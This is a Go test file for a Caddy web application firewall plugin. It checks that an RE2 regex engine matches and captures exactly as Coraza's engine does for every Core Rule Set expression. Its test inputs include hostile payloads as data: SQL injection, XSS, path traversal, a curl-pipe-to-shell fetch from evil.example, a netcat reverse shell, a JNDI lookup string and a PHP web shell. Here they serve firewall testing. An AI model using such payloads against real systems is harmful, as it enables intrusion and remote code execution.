@@ -1,0 +1,97 @@
+package waf
+
+import (
+	"context"
+	"strings"
+	"testing"
+
+	"github.com/caddyserver/caddy/v2"
+	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
+)
+
+// captureTx is the part of a transaction @rx uses: whether it captures,
+// and what.
+type captureTx struct {
+	plugintypes.TransactionState
+	capturing bool
+	captured  [9]string
+}
+
+func (t *captureTx) Capturing() bool              { return t.capturing }
+func (t *captureTx) CaptureField(i int, v string) { t.captured[i] = v }
+
+// rxInputs are the values the engines are compared on: the attack and
+// benign tables' payloads and more, each alone, and inside filler text
+// (at its start, middle and end, on one line and over several lines, for
+// the (?m) anchors), so that most are longer than re2MinLen.
+func rxInputs() []string {
+	payloads := []string{
+		"1' OR '1'='1' --", "1 UNION SELECT username, password FROM users", "admin'--", "x' OR 1=1 --",
+		"x' UNION SELECT password FROM users --", "1' UNION SELECT username, password FROM users--",
+		"<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
+		"javascript:alert(1)", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/etc/shadow",
+		"127.0.0.1; cat /etc/passwd", "$(curl http://evil.example/x.sh|sh)", "`id`", "| nc -e /bin/sh 10.0.0.1 4444",
+		"${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://x}", "<?php system($_GET['c']); ?>", "php://filter/resource=index.php",
+		"java.lang.Runtime.getRuntime().exec(\"id\")", "{{7*7}}", "${7*7}", "SLEEP(5)", "benchmark(10000000,md5(1))",
+		"1;DROP TABLE users", "' AND 1=CONVERT(int,@@version)--", "1 AND extractvalue(1,concat(0x7e,version()))",
+		"http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "\r\nSet-Cookie: a=b", "%0d%0aLocation: http://x",
+		"O'Brien \"quoted words\" rock'n'roll", "Grüße aus Köln", "日本語のテキスト, émoji 🎉, naïve café",
+		"jane.doe+test@example.com", "Please deliver after five.", "select the best option from the menu",
+		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyLTcifQ.c2lnbmF0dXJl", "Mozilla/5.0 (X11; Linux x86_64) gateway-test",
+		"application/json", "name=Widget&qty=2", "<b>bold</b> and <i>italic</i>", "a = b + c; d < e > f",
+	}
+	filler := strings.Repeat("Please deliver after five. ", 12)
+	lines := strings.Repeat("a line of text\n", 12)
+	var in []string
+	for _, p := range payloads {
+		in = append(in, p, strings.ToLower(p), filler+p, p+filler, filler+p+filler, lines+p, p+"\n"+lines, lines+p+"\n"+lines)
+	}
+	return append(in, filler, lines, strings.Repeat("x", 5000))
+}
+
+// TestRE2MatchesGoRegexp: for every @rx expression of the CRS, on each
+// input, the operator with RE2 matches exactly when Coraza's own does,
+// and captures the same.
+func TestRE2MatchesGoRegexp(t *testing.T) {
+	var opts []plugintypes.OperatorOptions
+	observeRX = func(o plugintypes.OperatorOptions) { opts = append(opts, o) }
+	ctx, cancel := caddy.NewContext(caddy.Context{Context: context.Background()})
+	defer cancel()
+	w := &WAF{Responses: true}
+	err := w.Provision(ctx)
+	observeRX = nil
+	if err != nil {
+		t.Fatal(err)
+	}
+	inputs := rxInputs()
+	withRE2, compared, matched := 0, 0, 0
+	for _, o := range opts {
+		op, err := newRX(o)
+		if err != nil {
+			t.Fatal(err)
+		}
+		ours, ok := op.(*rx)
+		if !ok || ours.re == nil { // Coraza's alone
+			continue
+		}
+		withRE2++
+		coraza := ours.coraza
+		for _, v := range inputs {
+			for _, capturing := range []bool{false, true} {
+				a, b := &captureTx{capturing: capturing}, &captureTx{capturing: capturing}
+				got, want := ours.Evaluate(a, v), coraza.Evaluate(b, v)
+				compared++
+				if got {
+					matched++
+				}
+				if got != want || a.captured != b.captured {
+					t.Errorf("@rx %.80q on %.60q (capturing %v): RE2 %v %q, Coraza %v %q", o.Arguments, v, capturing, got, a.captured, want, b.captured)
+				}
+			}
+		}
+	}
+	t.Logf("%d @rx expressions (%d with RE2), %d inputs: %d evaluations compared, %d matches", len(opts), withRE2, len(inputs), compared, matched)
+	if withRE2 < 100 {
+		t.Fatalf("only %d of the CRS's expressions run with RE2", withRE2)
+	}
+}
